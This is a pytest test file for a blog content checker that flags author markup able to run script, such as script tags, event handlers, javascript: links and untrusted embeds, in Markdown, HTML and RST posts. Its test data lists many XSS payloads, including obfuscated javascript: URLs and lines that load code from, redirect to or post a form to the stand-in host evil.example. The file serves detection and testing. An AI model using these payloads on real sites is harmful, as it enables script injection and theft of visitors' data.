"""No text an author writes can run script: script, event handlers, script URLs, embeds."""

from __future__ import annotations

from typing import Any

import pytest
from content_checks.plugin import DEFAULTS
from content_checks.rules import check_source
from faces_common.formats import HTML, MARKDOWN, RST, read_source

HEAD = "Title: Hallo\nDate: 2026-03-14 09:30\nCategory: Technik\nAuthor: miriam-keller\n\n"


def _settings(**overrides: Any) -> dict[str, Any]:
    from pelican.settings import DEFAULT_CONFIG

    return {**DEFAULT_CONFIG, **DEFAULTS, "MESSAGES_LANG": "de", **overrides}


def _found(text: str, format_: str = MARKDOWN, **overrides: Any) -> list[tuple[int, int]]:
    problems = check_source(read_source(text, format_), "p.md", _settings(**overrides), "article")
    return [(p.line, p.column) for p in problems if p.rule == "active_content"]


# (body line, the hostile markup); each is on line 6 of the post, after the header.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    'Text <img src="x" onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">klick</a>',
    '<a href="JaVa&#x09;ScRiPt:alert(1)">klick</a>',
    '<a href=" &#106;avascript:alert(1)">klick</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<embed src="//evil.example/x.swf">',
    '<form action="https://evil.example/steal"><input name=p></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "[klick](javascript:alert(1))",
    "[klick](<javascript:alert(1)>)",
    '<div style="x" onmouseover="alert(1)">x</div>',
    "<details open ontoggle=alert(1)>",
    "Text `code` <script>alert(1)</script>",
]


@pytest.mark.parametrize("body", HOSTILE)
def test_markup_that_could_run_script_is_an_error_with_its_place(body: str) -> None:
    found = _found(HEAD + body + "\n")
    assert found and all(line == 6 for line, _ in found), found


def test_the_message_names_the_markup_and_the_fix_in_german_and_english() -> None:
    text = HEAD + 'Ein <b onclick="alert(1)">Klick</b>\n'
    for lang, words in (("de", "Skripte und Ereignis-Attribute"), ("en", "Scripts and event")):
        [problem] = [
            p
            for p in check_source(
                read_source(text, MARKDOWN), "p.md", _settings(MESSAGES_LANG=lang), "article"
            )
            if p.rule == "active_content"
        ]
        assert problem.format().startswith(f"p.md:6:5: error: {words}")
        assert "onclick=" in problem.message and "```" in problem.fix


@pytest.mark.parametrize(
    "body",
    [
        "```html\n<script>alert(1)</script>\n<a onclick=x()>\n```",
        "~~~~\n<iframe src=https://evil.example/></iframe>\n~~~~",
        "So sieht es aus:\n\n    <script>alert(1)</script>\n    <a href=javascript:x>",
        "Ein Tag wie `<script>` oder ``<a onclick=…>`` ist gefährlich.",
        "<!-- <script>alert(1)</script> -->",
        "Schreiben Sie javascript: nie in Links; onclick= auch nicht.",
        '<a href="https://example.org/javascript:ok">ok</a> [a](https://x.example/on)',
        '<img src="{static}/images/a.jpg" alt="Bild">',
    ],
    ids=["fenced", "tilde", "indented", "code-span", "comment", "prose", "https", "image"],
)
def test_a_post_about_html_is_not_flagged(body: str) -> None:
    assert _found(HEAD + body + "\n") == []


def test_html_inside_a_list_item_is_live_and_flagged() -> None:
    # Indented under a list item it is not code: Markdown passes the tag to the page.
    assert _found(HEAD + "- Punkt\n\n    <b onclick=x()>fett</b>\n") == [(8, 5)]


def test_embeds_from_hosts_the_site_allows_pass() -> None:
    body = HEAD + '<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>\n'
    assert _found(body) == [(6, 1)]
    assert _found(body, CHECKS_EMBED_HOSTS=["www.youtube-nocookie.com"]) == []
    assert _found(HEAD + '<iframe src="/umfrage/"></iframe>\n') == []


def test_html_and_rst_posts_are_scanned_too() -> None:
    html = (
        "<html><head><title>T</title><meta name='date' content='2026-03-14'>"
        "<meta name='category' content='Technik'><meta name='author' content='a'></head>\n"
        "<body><p>Hallo</p>\n<p onclick='x()'>x</p><script>y()</script></body></html>\n"
    )
    assert _found(html, HTML) == [(3, 1), (3, 23)]
    # Header values (the head's <meta>) reach the page escaped or sanitised, never as markup.
    tagged = html.replace(
        "<meta name='author'",
        '<meta name="tags" content="<svg onload=x()>">\n<meta name=\'author\'',
    )
    assert _found(tagged, HTML) == [(4, 1), (4, 23)]
    rst = "Titel\n#####\n\n:date: 2026-03-14\n\nEin `Link <javascript:alert(1)>`_.\n"
    assert _found(rst, RST) == [(6, 12)]
